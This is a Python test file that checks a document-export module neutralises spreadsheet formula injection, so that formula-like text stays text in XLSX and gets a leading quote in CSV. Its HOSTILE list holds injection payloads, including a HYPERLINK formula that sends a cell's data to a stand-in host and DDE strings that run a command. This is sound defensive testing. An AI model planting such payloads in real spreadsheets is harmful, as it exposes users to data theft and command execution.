"""Text that a spreadsheet program would run as a formula stays text: a string cell with
the same text in the XLSX, a leading single quote in the CSV; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from saypro.platform.documents.delimited import to_csv
from saypro.platform.documents.xlsx import to_xlsx
from tests.platform.documents.conftest import data_row, document, row, sheet_of

HOSTILE = [
    '=HYPERLINK("https://evil/?"&B12,"see")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_the_xlsx_stores_formula_like_text_as_text(text: str) -> None:
    sheet = sheet_of(to_xlsx(document(row("F1", text), group=text, details=text)))
    cells = data_row(sheet, "F1")
    details = sheet["B3"]  # the title block's first detail
    for cell in (cells["Reason for deviation"], cells["Strategic objective"], details):
        assert cell.data_type == "s"
        # Shown as written (XML reads a carriage return back as a line feed).
        assert cell.value == text.replace("\r", "\n")
        assert cell.quotePrefix


def test_the_xlsx_keeps_ordinary_text_and_numbers() -> None:
    sheet = sheet_of(to_xlsx(document(row("N1", "Vendor delay", actual=Decimal("-4.5")))))
    cells = data_row(sheet, "N1")
    assert cells["Reason for deviation"].value == "Vendor delay"
    assert not cells["Reason for deviation"].quotePrefix
    assert cells["Actual"].data_type == "n" and cells["Actual"].value == Decimal("-4.5")


@pytest.mark.parametrize("text", HOSTILE)
def test_the_csv_puts_a_quote_before_formula_like_text(text: str) -> None:
    content = to_csv(document(row("F1", text), group=text)).decode("utf-8-sig")
    [line] = list(csv.DictReader(io.StringIO(content, newline="")))
    assert line["Reason for deviation"] == "'" + text
    assert line["Strategic objective"] == "'" + text


def test_the_csv_keeps_negative_numbers_and_ordinary_text() -> None:
    content = to_csv(document(row("N1", "Vendor delay", actual=Decimal("-4.5"))))
    [line] = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert line["Actual"] == "-4.5"
    assert line["Reason for deviation"] == "Vendor delay"
    assert line["Code"] == "N1"
